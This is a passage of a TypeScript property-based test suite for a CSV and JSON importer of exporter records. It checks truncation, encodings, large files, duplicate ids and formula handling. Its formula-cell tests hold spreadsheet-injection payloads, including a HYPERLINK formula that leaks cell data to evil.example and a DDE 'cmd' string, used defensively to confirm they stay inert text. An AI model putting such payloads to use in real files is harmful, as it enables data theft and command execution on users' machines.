import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { dataset } from '../../src/data/dataset';
import { validateDataset } from '../../src/data/schema';
import { parseCsv, toCsv, unneutralise, type CsvTable } from '../../src/domain/csv';
import { officialExporterRows, type ExporterRow } from '../../src/domain/exporter-rows';
import { exportersToCsv } from '../../src/domain/exporter-file/export';
import { knownFacets } from '../../src/domain/exporter-file/facets';
import { parseExporterFile, type ImportResult } from '../../src/domain/exporter-file/import';
import type { RejectReason, RejectedRow } from '../../src/domain/exporter-file/rows';
import { fileSource, openImport } from '../../src/api/import-file';
import { gbkEncoder } from './gbk';

/*
 * Whatever a user picks in the file dialog, the import must end in a report they can act on:
 * a whole-file message, or rows accepted and rejected that add up to the rows read. These
 * properties feed it cut files, mixed encodings, formula cells, odd JSON and 50 MB of data.
 * Every property has a fixed seed, so a failure seen once is seen again on the next run.
 */

const official = officialExporterRows(validateDataset(dataset));
const known = knownFacets(official);
const sourceName = (id: string) => dataset.sources.find((s) => s.id === id)?.publisher.en ?? id;
const utf8 = (text: string) => new TextEncoder().encode(text);

function read(bytes: Uint8Array, fileName = 'team.csv'): ImportResult {
  return parseExporterFile(bytes, fileName, known);
}

/** What the report promises whatever the file: the counts add up, and an error adds nothing. */
function expectReport(result: ImportResult): void {
  expect(result.accepted.length + result.rejected.length + result.setApart.length).toBe(result.total);
  if (result.error) {
    expect(result.total).toBe(0);
    expect(result.accepted).toEqual([]);
    expect(result.rejected).toEqual([]);
  } else {
    // Nothing to show and no message would leave the user guessing.
    expect(result.total).toBeGreaterThan(0);
  }
  // Checked in a loop and asserted once: the 50 MB files have half a million rejects.
  let previous = 0;
  const misplaced = result.rejected.filter((r) => {
    // The report lists rejects in file order, each at a real line, its value clipped.
    const bad = !Number.isInteger(r.line) || r.line < Math.max(1, previous) || (r.value?.length ?? 0) > 80;
    previous = r.line;
    return bad;
  });
  expect(misplaced).toEqual([]);
}

/** What a user sees of a row in the table. */
function shown(row: ExporterRow) {
  return {
    id: row.id,
    name: row.name,
    city: row.city?.key,
    sector: row.sector?.key,
    markets: row.markets.map((m) => m.key),
    keyFigure: row.keyFigure,
    sourceText: row.sourceText,
    noteText: row.noteText,
  };
}

const gbk = gbkEncoder();

function utf16(text: string, endian: 'le' | 'be'): Uint8Array {
  const bytes = new Uint8Array(2 + 2 * text.length);
  const view = new DataView(bytes.buffer);
  view.setUint16(0, 0xfeff, endian === 'le');
  for (let i = 0; i < text.length; i++) view.setUint16(2 + 2 * i, text.charCodeAt(i), endian === 'le');
  return bytes;
}

function concat(...parts: Uint8Array[]): Uint8Array {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
}

/** toCsv always starts with a BOM; each encoding writes the text as a tool saving it would. */
type Encoding = 'utf-8-bom' | 'utf-8' | 'utf-16le' | 'utf-16be';
const ENCODINGS: Encoding[] = ['utf-8-bom', 'utf-8', 'utf-16le', 'utf-16be'];
function encode(csv: string, encoding: Encoding): Uint8Array {
  const body = csv.startsWith('\uFEFF') ? csv.slice(1) : csv;
  if (encoding === 'utf-8-bom') return utf8(`\uFEFF${body}`);
  if (encoding === 'utf-8') return utf8(body);
  return utf16(body, encoding === 'utf-16le' ? 'le' : 'be');
}

// ── Generated tables ──────────────────────────────────────────────────────

// No NULs or other C0 controls: those make a file binary by design, which other tests cover.
function withoutControls(text: string): string {
  return [...text]
    .filter((ch) => {
      const c = ch.charCodeAt(0);
      return (c >= 0x20 || c === 0x09 || c === 0x0a || c === 0x0d) && c !== 0x7f;
    })
    .join('');
}
const piece = fc.oneof(
  fc.constantFrom('网易', '杭州', '；', '、', ',', '"', '""', '\r\n', '\n', '\r', '=', '+', '-', '@', "'", ' ', '\t'),
  fc.constantFrom('é', '😀', '#', '中文名称', 'name_en'),
  fc.string({ maxLength: 4 }),
);
const text = fc.array(piece, { maxLength: 5 }).map((parts) => withoutControls(parts.join('')));

const HEADER = ['id', 'name_en', 'name_zh', 'city', 'markets', 'value', 'unit', 'period', 'note', 'source'];
const rowSpec = fc.record({
  withId: fc.boolean(),
  nameEn: text,
  nameZh: text,
  city: fc.constantFrom('', '杭州', 'Hangzhou', '宁波', 'Yiwu'),
  markets: fc.constantFrom('', 'Europe；北美', 'Mars、Asia; Europe'),
  value: fc.option(fc.integer({ min: 0, max: 2_000_000_000 }), { nil: undefined }),
  unit: fc.constantFrom('CNY', 'USD', '元', 'count'),
  period: fc.constantFrom(
    '',
    '2020',
    '2019-2020',
    '2019 年',
    '2020-11',
    '2020年11月',
    '2011-01 to 2011-10',
    '2011年1—10月',
    'annual',
    '每年',
    'cumulative to 2018-05',
    '截至2021-02-25累计',
    'announced 2021',
    '2021年公布',
  ),
  note: text,
  source: text,
});
type RowSpec = typeof rowSpec extends fc.Arbitrary<infer T> ? T : never;

/** Every generated row is a valid one: a letter in front keeps its names from being blank. */
function tableOf(specs: readonly RowSpec[]): CsvTable {
  return {
    meta: [['source', 'fuzz, "quoted"']],
    header: HEADER,
    rows: specs.map((s, i) => [
      s.withId ? `r${i}` : '',
      `N${s.nameEn}`,
      `中${s.nameZh}`,
      s.city,
      s.markets,
      s.value === undefined ? '' : String(s.value),
      s.value === undefined ? '' : s.unit,
      s.period,
      s.note,
      s.source,
    ]),
  };
}

/** Byte offsets where the header ends ([0]) and where each row's line break ends ([i + 1]). */
function rowEnds(table: CsvTable, encoding: Encoding): number[] {
  return Array.from(
    { length: table.rows.length + 1 },
    (_, i) => encode(toCsv({ ...table, rows: table.rows.slice(0, i) }), encoding).length,
  );
}

/**
 * A file cut at `at` bytes: a cut inside the header is a whole-file error; after it, every row
 * whose line ended before the cut comes back exactly as from the whole file, and what follows
 * is at most the cut row (plus, in UTF-16, half a character read as its own line).
 */
function expectCut(bytes: Uint8Array, ends: number[], at: number, full: ImportResult, fileName: string): void {
  const cut = read(bytes.subarray(0, at), fileName);
  expectReport(cut);
  const headerEnd = ends[0] ?? 0;
  const halfUnit = full.encoding === 'utf-16' && at % 2 === 1;
  if (at < headerEnd) {
    // Half of the header's LF in UTF-16 is one undecodable character after the CR: a row with no name.
    if (halfUnit && !cut.error) expect(cut.rejected.map((r) => r.reason)).toEqual(['missing-name']);
    else expect(cut.error).toBeDefined();
    return;
  }
  const complete = ends.slice(1).filter((end) => end <= at).length;
  if (complete === 0) {
    if (cut.error) expect(cut.error).toBe('empty');
    else expect(cut.total).toBeLessThanOrEqual(2);
    return;
  }
  expect(cut.error).toBeUndefined();
  expect(cut.encoding).toBe(full.encoding);
  expect(cut.total).toBeGreaterThanOrEqual(complete);
  expect(cut.total).toBeLessThanOrEqual(complete + (halfUnit ? 2 : 1));
  expect(cut.accepted.slice(0, complete).map(shown)).toEqual(full.accepted.slice(0, complete).map(shown));
}

// ── 1. Truncated files ────────────────────────────────────────────────────

describe('truncated files', () => {
  it('cut at random offsets: the rows before the cut survive, in every encoding', () => {
    fc.assert(
      fc.property(
        fc.array(rowSpec, { minLength: 1, maxLength: 10 }),
        fc.constantFrom(...ENCODINGS),
        fc.nat(),
        (specs, encoding, offset) => {
          const table = tableOf(specs);
          const bytes = encode(toCsv(table), encoding);
          const full = read(bytes);
          expect(full.error).toBeUndefined();
          expect(full.rejected).toEqual([]);
          expect(full.total).toBe(specs.length);
          expectCut(bytes, rowEnds(table, encoding), offset % (bytes.length + 1), full, 'team.csv');
        },
      ),
      { numRuns: 400, seed: 20261128 },
    );
  });

  // The official export in Chinese: headers and names in multi-byte characters everywhere.
  const zhCsv = exportersToCsv(official, 'zh', [['来源', '浙江文化出口']], sourceName);
  const zhTable = ((): CsvTable => {
    const [header = [], ...rows] = parseCsv(zhCsv).records.map((r) => r.cells.map(unneutralise));
    return { meta: [['来源', '浙江文化出口']], header, rows };
  })();

  it.each<Encoding>(['utf-8-bom', 'utf-8'])(
    'cut at every byte offset: the official export in Chinese, %s',
    (encoding) => {
      expect(toCsv(zhTable)).toBe(zhCsv);
      const bytes = encode(zhCsv, encoding);
      const ends = rowEnds(zhTable, encoding);
      const full = read(bytes, '出口企业.csv');
      expect(full.total).toBe(official.length);
      expect(full.accepted).toHaveLength(official.length);
      for (let at = 0; at <= bytes.length; at++) expectCut(bytes, ends, at, full, '出口企业.csv');
    },
  );

  it('cut at every byte offset: the same file saved by Excel in GBK', () => {
    const text = zhCsv.slice(1);
    const bytes = gbk(text);
    const full = read(bytes, '出口企业.csv');
    expect(full.encoding).toBe('gbk');
    expect(full.accepted).toHaveLength(official.length);
    const ends = Array.from(
      { length: zhTable.rows.length + 1 },
      (_, i) => gbk(toCsv({ ...zhTable, rows: zhTable.rows.slice(0, i) }).slice(1)).length,
    );
    for (let at = 0; at <= bytes.length; at++) expectCut(bytes, ends, at, full, '出口企业.csv');
  });

  /** An empty cut or a bare BOM is an empty file; any other proper prefix is broken JSON. */
  function expectCutJson(bytes: Uint8Array, bom: number, at: number): void {
    const cut = read(bytes.subarray(0, at), 'team.json');
    expectReport(cut);
    expect(cut.error).toBe(at === 0 || at === bom ? 'empty' : 'bad-json');
  }

  it('a JSON array cut at every byte offset is broken JSON, never a partial import', () => {
    const objects = zhTable.rows.map((cells) => Object.fromEntries(zhTable.header.map((h, i) => [h, cells[i] ?? ''])));
    const bytes = utf8(JSON.stringify(objects, null, 1));
    expect(read(bytes, 'team.json').accepted).toHaveLength(official.length);
    for (let at = 0; at < bytes.length; at++) expectCutJson(bytes, 0, at);
  });

  it('a JSON array cut at random offsets, in every encoding', () => {
    fc.assert(
      fc.property(
        fc.array(rowSpec, { minLength: 1, maxLength: 10 }),
        fc.constantFrom(...ENCODINGS),
        fc.nat(),
        (specs, encoding, offset) => {
          const table = tableOf(specs);
          const objects = table.rows.map((cells) => Object.fromEntries(table.header.map((h, i) => [h, cells[i]])));
          const bytes = encode(JSON.stringify(objects), encoding);
          const full = read(bytes, 'team.json');
          expect(full.total).toBe(specs.length);
          expect(full.rejected).toEqual([]);
          const bom = { 'utf-8-bom': 3, 'utf-8': 0, 'utf-16le': 2, 'utf-16be': 2 }[encoding];
          expectCutJson(bytes, bom, offset % bytes.length);
        },
      ),
      { numRuns: 300, seed: 20261129 },
    );
  });
});

// ── 2. Random bytes ───────────────────────────────────────────────────────

describe('random input after a valid header', () => {
  // Random bytes (exporter-file.test.ts) nearly always hold a NUL and stop at the binary check;
  // these stay valid UTF-8 text, so every one reaches the CSV reader and the row checks.
  const csvish = fc
    .array(
      fc.oneof(
        { weight: 4, arbitrary: fc.constantFrom(',', '"', '\r\n', '\n', '\r', '\t', ' ', ';', "'", '=', '#') },
        {
          weight: 2,
          arbitrary: fc.constantFrom('CNY', '元', '以上', '2020', '2019-2020', '-5', '1e9', '网易', '杭州'),
        },
        { weight: 3, arbitrary: fc.string({ maxLength: 6 }) },
      ),
      { maxLength: 120 },
    )
    .map((parts) => withoutControls(parts.join('')).replaceAll('\uFFFD', ''));

  it('reads every record, rejects with lines inside the file, and never errs but for "empty"', () => {
    const header = 'id,name_en,name_zh,value,unit,qualifier,period,markets\r\n';
    fc.assert(
      fc.property(csvish, fc.constantFrom('', '\uFEFF'), (body, bom) => {
        const result = read(utf8(bom + header + body));
        expectReport(result);
        if (result.error) expect(result.error).toBe('empty');
        const lines = (header + body).split(/\r\n|\r|\n/).length;
        for (const r of result.rejected) {
          expect(r.line).toBeGreaterThanOrEqual(2);
          expect(r.line).toBeLessThanOrEqual(lines);
        }
        for (const row of result.accepted) expect(row.name.en.trim()).not.toBe('');
      }),
      { numRuns: 500, seed: 20261130 },
    );
  });
});

// ── 3. A 50 MB file ───────────────────────────────────────────────────────

const BIG = 50 * 1024 * 1024;

interface BigFile {
  bytes: Uint8Array<ArrayBuffer>;
  /** Where the last row ends; blank lines fill the rest. */
  contentEnd: number;
  rows: number;
  rejected: number;
}

/**
 * Rows as a team would write them (Chinese names, quoted sources with commas, a formula-looking
 * source now and then), a bad value every 10th row, a repeated id every 97th and a blank row
 * every 50th, repeated up to 50 MB and padded with blank lines to exactly 50 MB.
 */
function bigCsv(): BigFile {
  const bytes = new Uint8Array(BIG);
  const encoder = new TextEncoder();
  const cities = ['杭州', 'Hangzhou', '宁波', 'Yiwu', '温州'];
  const sectors = ['Animation', '网络游戏', 'Publishing', '影视'];
  let at = encoder.encodeInto(
    '\uFEFF# source: team list\r\nid,name_en,name_zh,city,sector,markets,value,unit,qualifier,period,source\r\n',
    bytes,
  ).written;
  let rows = 0;
  let rejected = 0;
  for (let i = 0; ; i++) {
    const bad = i % 10 === 9;
    const repeated = i % 97 === 96;
    const line =
      `${repeated ? `r${i - 1}` : `r${i}`},Exporter ${i},浙江文化出口企业${i},${cities[i % 5]},${sectors[i % 4]},` +
      `"Europe；北美、Asia",${bad ? 'n/a' : String(i * 1000)},CNY,${i % 3 ? 'exact' : '以上'},2019-2020,` +
      `${i % 7 ? `"Team list, sheet ""${i % 7}"""` : `=HYPERLINK("http://example.com/${i}")`}\r\n` +
      (i % 50 === 0 ? ',,,,,,,,,,\r\n' : '');
    const { read: taken, written } = encoder.encodeInto(line, bytes.subarray(at));
    if (taken < line.length) break;
    at += written;
    rows++;
    if (bad || repeated) rejected++;
  }
  const contentEnd = at;
  // Blank lines are not rows: they fill the file to exactly 50 MB without changing the counts.
  bytes.fill(0x0a, at);
  return { bytes, contentEnd, rows, rejected };
}

/** A fixed-seed xorshift: the same 50 MB of noise on every run, without holding a second copy. */
function noise(size: number, seed: number, alphabet?: Uint8Array): Uint8Array {
  const bytes = new Uint8Array(size);
  let s = seed >>> 0 || 1;
  for (let i = 0; i < size; i++) {
    s ^= s << 13;
    s ^= s >>> 17;
    s ^= s << 5;
    s >>>= 0;
    bytes[i] = alphabet ? (alphabet[s % alphabet.length] ?? 0) : s & 0xff;
  }
  return bytes;
}

function timed<T>(work: () => T): { value: T; ms: number } {
  const start = performance.now();
  const value = work();
  return { value, ms: Math.round(performance.now() - start) };
}

function mb(bytes: number): string {
  return `${(bytes / 1024 / 1024).toFixed(1)} MB`;
}

describe('a 50 MB file', () => {
  it('reads 50 MB of rows with the counts adding up, also through openImport', { timeout: 180_000 }, async () => {
    const big = bigCsv();
    expect(big.bytes.length).toBe(BIG);
    const { value: result, ms } = timed(() => read(big.bytes, 'big.csv'));
    console.info(
      `50 MB CSV: ${mb(big.bytes.length)}, ${result.total} rows read, ${result.accepted.length} accepted, ` +
        `${result.rejected.length} rejected, parsed in ${ms} ms, heap ${mb(process.memoryUsage().heapUsed)}, rss ${mb(process.memoryUsage().rss)}`,
    );
    expectReport(result);
    expect(result.error).toBeUndefined();
    expect(result.encoding).toBe('utf-8');
    expect(result.total).toBe(big.rows);
    expect(result.rejected).toHaveLength(big.rejected);
    expect(result.rejected.filter((r) => r.reason === 'duplicate-id').length).toBe(Math.floor(big.rows / 97));
    expect(result.accepted[0]?.name).toEqual({ en: 'Exporter 0', zh: '浙江文化出口企业0', zhOrigin: 'source' });
    expect(result.accepted[0]?.sourceText).toBe('=HYPERLINK("http://example.com/0")');
    expect(result.accepted.at(-1)?.name.zh).toMatch(/^浙江文化出口企业\d+$/);

    // The user's path: the file read in one piece, progress rising to 1, the same report.
    const fractions: number[] = [];
    const session = openImport(await fileSource(new File([big.bytes], 'big.csv')), known, (f) => fractions.push(f));
    const opened = await session.opened;
    if (opened.kind !== 'preview') throw new Error('expected a preview');
    // Each step, the read and the import, has its progress rise to 1.
    expect(fractions.at(-1)).toBe(1);
    expect(fractions).toEqual([...fractions].sort((a, b) => a - b));
    fractions.length = 0;
    const plan = opened.preview.sheets[0]?.plan;
    if (!plan) throw new Error('no sheet in the preview');
    const viaFile = await session.run(0, plan);
    expect(viaFile.total).toBe(result.total);
    expect(viaFile.accepted.length).toBe(result.accepted.length);
    expect(fractions.at(-1)).toBe(1);
    expect(fractions).toEqual([...fractions].sort((a, b) => a - b));
  });

  it('reads a 50 MB UTF-8 file without a BOM, cut inside its last character, as UTF-8', { timeout: 120_000 }, () => {
    const big = bigCsv();
    let lead = big.contentEnd - 1;
    while ((big.bytes[lead] ?? 0) < 0xe0) lead--;
    // From after the BOM: with one, the file is UTF-8 whatever follows.
    const { value: result, ms } = timed(() => read(big.bytes.subarray(3, lead + 1), 'big.csv'));
    console.info(`50 MB CSV cut mid-character: ${result.total} rows read in ${ms} ms, encoding ${result.encoding}`);
    expectReport(result);
    expect(result.encoding).toBe('utf-8');
    expect(result.total).toBe(big.rows);
    expect(result.accepted[0]?.name.zh).toBe('浙江文化出口企业0');
    expect(result.accepted.length).toBeGreaterThanOrEqual(big.rows - big.rejected - 1);
  });

  it('calls 50 MB of random bytes not a table, or not JSON, without throwing', { timeout: 120_000 }, () => {
    const bytes = noise(BIG, 0x5eed);
    const asCsv = timed(() => read(bytes, 'noise.csv'));
    const asJson = timed(() => read(bytes, 'noise.json'));
    console.info(
      `50 MB random bytes: csv ${asCsv.value.error} in ${asCsv.ms} ms, json ${asJson.value.error} in ${asJson.ms} ms`,
    );
    expectReport(asCsv.value);
    expectReport(asJson.value);
    expect(asCsv.value.error).toBe('not-a-table');
    expect(asJson.value.error).toBe('bad-json');
  });

  it('reads 50 MB of random CSV-like text after a valid header', { timeout: 120_000 }, () => {
    // Mostly letters, with the characters that drive the reader: delimiters, quotes, line breaks.
    const letters = 'abcdefghijklmnopqrstuvwxyz'.repeat(3) + '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ';
    const alphabet = utf8(`${letters}      ,,,,,,,,"\r\n\t;=+-@'#.`);
    const header = utf8('name_en,value,unit,id,markets\r\n');
    const bytes = noise(BIG, 0xc0ffee, alphabet);
    bytes.set(header, 0);
    const { value: result, ms } = timed(() => read(bytes, 'noise.csv'));
    console.info(
      `50 MB random CSV text: ${result.total} rows read, ${result.accepted.length} accepted, ` +
        `${result.rejected.length} rejected, parsed in ${ms} ms`,
    );
    expectReport(result);
    expect(result.error).toBeUndefined();
    expect(result.total).toBeGreaterThan(1000);
    let lines = 1;
    for (let i = 0; i < bytes.length; i++)
      if (bytes[i] === 0x0a || (bytes[i] === 0x0d && bytes[i + 1] !== 0x0a)) lines++;
    expect(result.rejected.at(-1)?.line).toBeLessThanOrEqual(lines);
  });
});

// ── 4. Mixed encodings ────────────────────────────────────────────────────

describe('mixed encodings', () => {
  const names = ['网易', '宋城演艺', '华策影视', '横店影视', '浙江出版联合集团', '中南卡通'];
  const rowsText = names.map((n, i) => `r${i},${n},杭州\r\n`);

  it('reads an English header in UTF-8 over rows in GBK as GBK', () => {
    const bytes = concat(utf8('id,name_zh,city\r\n'), ...rowsText.map(gbk));
    const result = read(bytes);
    expectReport(result);
    expect(result.encoding).toBe('gbk');
    expect(result.accepted.map((r) => r.name.zh)).toEqual(names);
    expect(result.accepted.every((r) => r.city?.key === 'hangzhou')).toBe(true);
  });

  it('gives a whole-file message for a Chinese UTF-8 header over many GBK rows', () => {
    const many = Array.from({ length: 20 }, (_, i) => rowsText[i % rowsText.length] ?? '');
    const bytes = concat(utf8('编号,中文名称,城市\r\n'), ...many.map(gbk));
    const result = read(bytes);
    expectReport(result);
    // Read as GBK, the UTF-8 header is not a header any more: better a message than garbled rows.
    expect(result.encoding).toBe('gbk');
    expect(result.error).toBe('no-name-column');
  });

  it('does not garble a UTF-8 file for a single GBK row in it', () => {
    const utf8Rows = Array.from({ length: 40 }, (_, i) => `u${i},${names[i % names.length] ?? ''}${i},杭州\r\n`);
    const bytes = concat(utf8('编号,中文名称,城市\r\n' + utf8Rows.join('')), gbk('g1,网易,杭州\r\n'));
    const result = read(bytes);
    expectReport(result);
    expect(result.encoding).toBe('utf-8');
    expect(result.total).toBe(41);
    expect(result.accepted.slice(0, 40).map((r) => r.name.zh)).toEqual(utf8Rows.map((l) => l.split(',')[1]));
    // The GBK row is still reported, its name marked where the bytes made no sense.
    expect(result.accepted[40]?.name.zh).toContain('\uFFFD');
  });

  it.each([
    ['0xFF', [0xff]],
    ['a Latin-1 é', [0xe9]],
    ['a lone continuation byte', [0x80]],
    ['a cut-off character', [0xe7, 0xbd]],
  ])('keeps a UTF-8 file with %s in it as UTF-8, with or without a BOM', (_what, stray) => {
    for (const bom of ['', '\uFEFF']) {
      const bytes = concat(
        utf8(`${bom}id,name_zh,city\r\n${rowsText.slice(0, 3).join('')}r9,坏`),
        new Uint8Array(stray),
        utf8(`字节,杭州\r\n${rowsText.slice(3).join('')}`),
      );
      const result = read(bytes);
      expectReport(result);
      expect(result.encoding).toBe('utf-8');
      expect(result.total).toBe(names.length + 1);
      expect(result.accepted.map((r) => r.name.zh)).toEqual([...names.slice(0, 3), '坏\uFFFD字节', ...names.slice(3)]);
    }
  });

  it('keeps every other row of a UTF-8 file intact around a stray byte at a random place', () => {
    fc.assert(
      fc.property(
        fc.array(rowSpec, { minLength: 4, maxLength: 10 }),
        fc.nat(),
        fc.nat(),
        fc.constantFrom(0x80, 0xbf, 0xc0, 0xc1, 0xe4, 0xe9, 0xf5, 0xfe, 0xff),
        fc.constantFrom<Encoding>('utf-8', 'utf-8-bom'),
        (specs, which, offset, stray, encoding) => {
          // A few words per row: in a file of a handful of characters, one bad byte is over
          // the share of undecodable characters that marks a file as binary.
          const table = tableOf(specs.map((s) => ({ ...s, withId: true, source: `${s.source} team list` })));
          const bytes = encode(toCsv(table), encoding);
          const ends = rowEnds(table, encoding);
          const full = read(bytes);
          expect(full.rejected).toEqual([]);
          const i = which % specs.length;
          // Anywhere in the row up to its CR (after it, the byte would be a line of its own), but
          // not next to a quote: there it would change which commas are quoted, not the encoding.
          const places: number[] = [];
          for (let at = ends[i] ?? 0; at < (ends[i + 1] ?? 0) - 1; at++)
            if (bytes[at - 1] !== 0x22 && bytes[at] !== 0x22) places.push(at);
          const at = places[offset % places.length] ?? 0;
          const result = read(concat(bytes.subarray(0, at), new Uint8Array([stray]), bytes.subarray(at)));
          expectReport(result);
          expect(result.encoding).toBe('utf-8');
          expect(result.total).toBe(specs.length);
          const got = new Map(result.accepted.map((r) => [r.id, shown(r)]));
          for (const row of full.accepted) if (row.id !== `r${i}`) expect(got.get(row.id)).toEqual(shown(row));
        },
      ),
      { numRuns: 300, seed: 20261201 },
    );
  });

  it.each(['le', 'be'] as const)('reads a UTF-16 %s JSON array, BOM and all', (endian) => {
    const json = JSON.stringify([{ 中文名称: '网易', 城市: '杭州' }, { name_en: '=HYPERLINK("x")' }, 42]);
    const result = read(utf16(json, endian), 'team.json');
    expectReport(result);
    expect(result.format).toBe('json');
    expect(result.accepted.map((r) => r.name.en)).toEqual(['网易', '=HYPERLINK("x")']);
    expect(result.rejected).toEqual([{ line: 3, reason: 'missing-name', value: '42' }]);
  });

  it('reads a UTF-8 JSON array with a BOM', () => {
    const result = read(utf8('\uFEFF[{"name_zh":"网易"}]'), 'team.json');
    expect(result.error).toBeUndefined();
    expect(result.accepted[0]?.name.zh).toBe('网易');
  });

  it('reads a file of two exports pasted together, BOM in the middle included', () => {
    const one = exportersToCsv(official.slice(0, 3), 'en', [['source', 'a']], sourceName);
    const result = read(utf8(one + one));
    expectReport(result);
    // The second header is data now and says so: its "value" is not a number.
    expect(result.rejected.map((r) => r.reason)).toEqual<RejectReason[]>([
      'missing-name',
      'bad-value',
      'duplicate-id',
      'duplicate-id',
      'duplicate-id',
    ]);
    expect(result.accepted.map((r) => r.id)).toEqual(official.slice(0, 3).map((r) => r.id));
  });
});

// ── 5. Duplicate ids and formula cells ────────────────────────────────────

describe('duplicate ids', () => {
  interface IdCell {
    /** As typed in a CSV cell, quotes included. */
    csv: string;
    json: unknown;
    /** The id it stands for once trimmed and unguarded. */
    id: string;
  }
  const pool = (generated: string): IdCell[] => [
    { csv: 'a', json: 'a', id: 'a' },
    { csv: '" a "', json: ' a ', id: 'a' },
    { csv: 'A', json: 'A', id: 'A' },
    { csv: "'=a", json: "'=a", id: '=a' },
    { csv: '=a', json: '=a', id: '=a' },
    { csv: '1', json: 1, id: '1' },
    { csv: '" 1"', json: '1', id: '1' },
    { csv: '"b,c"', json: 'b,c', id: 'b,c' },
    { csv: '', json: null, id: '' },
    // The id this importer gives the row at line 3 when it has none: a list exported from the
    // table and imported again carries such ids.
    { csv: generated, json: generated, id: generated },
  ];

  it('rejects every repeat of an id and never accepts two rows with the same id', () => {
    fc.assert(
      fc.property(
        fc.constantFrom('team.csv', 'team.json'),
        fc.array(fc.record({ pick: fc.nat({ max: 9 }), named: fc.boolean() }), { maxLength: 12 }),
        (fileName, specs) => {
          const json = fileName.endsWith('.json');
          const cells = pool(json ? 'imported-team-json-3' : 'imported-team-csv-3');
          const picked = specs.map((s) => ({ ...(cells[s.pick] ?? { csv: '', json: null, id: '' }), named: s.named }));
          // A city in every row, so that a row with neither id nor name is not a blank line.
          const bytes = json
            ? utf8(JSON.stringify(picked.map((p, i) => ({ id: p.json, name_en: p.named ? `N${i}` : '', city: 'x' }))))
            : utf8(['id,name_en,city', ...picked.map((p, i) => `${p.csv},${p.named ? `N${i}` : ''},x`)].join('\r\n'));
          const result = read(bytes, fileName);
          expectReport(result);
          if (picked.length === 0) {
            expect(result.error).toBe('empty');
            return;
          }
          const seen = new Set<string>();
          const expected: RejectedRow[] = [];
          picked.forEach((p, i) => {
            const line = json ? i + 1 : i + 2;
            const repeat = p.id !== '' && seen.has(p.id);
            if (p.id) seen.add(p.id);
            if (!p.named) expected.push({ line, reason: 'missing-name' });
            else if (repeat) expected.push({ line, reason: 'duplicate-id', column: 'id', value: p.id });
          });
          expect(result.rejected).toEqual(expected);
          const accepted = result.accepted.map((r) => r.id);
          expect(new Set(accepted).size).toBe(accepted.length);
          // Ids the file gives are kept as they are.
          for (const id of accepted) if (!id.startsWith('imported-')) expect(seen.has(id)).toBe(true);
        },
      ),
      { numRuns: 400, seed: 20261202 },
    );
  });

  it('moves a made-up id aside when another row of the file gives it', () => {
    const result = read(utf8('id,name_en\r\n,A\r\nimported-team-csv-2,B\r\n,C\r\n'));
    expect(result.rejected).toEqual([]);
    expect(result.accepted.map((r) => [r.name.en, r.id])).toEqual([
      ['A', 'imported-team-csv-2-2'],
      ['B', 'imported-team-csv-2'],
      ['C', 'imported-team-csv-4'],
    ]);
  });
});

describe('formula cells', () => {
  const formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '@SUM(1)',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '=1+1',
    '@',
  ];

  it('keeps formula cells as plain text, and rejects them where a number or unit belongs', () => {
    const rows = formulas.map((f, i) => [`f${i}`, f, f, f, f, f].map((c) => `"${c.replaceAll('"', '""')}"`).join(','));
    const result = read(utf8(['id,name_en,name_zh,city,markets,source', ...rows].join('\r\n')));
    expectReport(result);
    expect(result.accepted.map((r) => r.name.en)).toEqual(formulas);
    expect(result.accepted.map((r) => r.name.zh)).toEqual(formulas);
    expect(result.accepted.map((r) => r.sourceText)).toEqual(formulas);

    const values = read(utf8('name_en,value,unit\r\nA,=1+1,CNY\r\nB,@SUM(1),CNY\r\nC,5,=cmd\r\nD,+5,CNY\r\n'));
    expect(values.rejected).toEqual([
      { line: 2, reason: 'bad-value', column: 'value', value: '=1+1' },
      { line: 3, reason: 'bad-value', column: 'value', value: '@SUM(1)' },
      { line: 4, reason: 'bad-unit', column: 'unit', value: '=cmd' },
    ]);
    // A plus sign is a sign: the number, not a sum, and nothing was computed from "=1+1".
    expect(values.accepted.map((r) => r.keyFigure?.value)).toEqual([5]);
  });

  it('trims the tab or CR in front of a formula and keeps the rest as text', () => {
    const result = read(utf8('name_en,source\r\n"\t=1+1","\r@SUM(1)"\r\n'));
    expect(result.accepted[0]?.name.en).toBe('=1+1');
    expect(result.accepted[0]?.sourceText).toBe('@SUM(1)');
  });

  const formulaText = fc
    .tuple(
      fc.constantFrom('=', '+', '-', '@', "'=", "''+", '\t=', '\r='),
      fc.string({ maxLength: 12 }).map((s) => withoutControls(s)),
    )
    .map(([lead, body]) => `${lead}${body}`.trim())
    .filter((s) => s !== '' && !/^'+$/.test(s));

  it('guards every formula cell on the way out, and reads the same text back in', () => {
    fc.assert(
      fc.property(
        fc.array(fc.record({ name: formulaText, source: formulaText }), { minLength: 1, maxLength: 8 }),
        (specs) => {
          const rows: ExporterRow[] = specs.map((s, i) => ({
            id: `=x${i}`,
            origin: 'imported',
            name: { en: s.name, zh: s.source, zhOrigin: 'source' },
            city: { key: 'c', label: { en: s.source, zh: s.source } },
            markets: [{ key: 'm', label: { en: s.name, zh: s.name } }],
            sourceIds: [],
            sourceText: s.source,
            noteText: s.name,
            keyFigure: { value: -3.5 - i, unit: 'percent', qualifier: 'exact' },
          }));
          const csv = exportersToCsv(rows, 'en', [['source', '=meta']], sourceName);
          const [header, ...records] = parseCsv(csv).records;
          expect(header?.cells[0]).toBe('id');
          for (const record of records) for (const cell of record.cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

          const back = read(utf8(csv));
          expectReport(back);
          expect(back.rejected).toEqual([]);
          const cells = (r: ExporterRow) => [r.id, r.name.en, r.name.zh, r.sourceText, r.noteText, r.keyFigure?.value];
          expect(back.accepted.map(cells)).toEqual(rows.map(cells));
        },
      ),
      { numRuns: 300, seed: 20261203 },
    );
  });
});

// ── 6. JSON that is not an array of objects ──────────────────────────────

describe('JSON that is not a list of exporters', () => {
  it.each([
    ['an object', '{"name_en":"A"}', 'json-not-array'],
    ['an object holding the list', '{"exporters":[{"name_en":"A"}]}', 'json-not-array'],
    ['a number', '42', 'json-not-array'],
    ['a negative number', '-1', 'json-not-array'],
    ['a string', '"exporters"', 'json-not-array'],
    ['null', 'null', 'json-not-array'],
    ['true', 'true', 'json-not-array'],
    ['false', ' false ', 'json-not-array'],
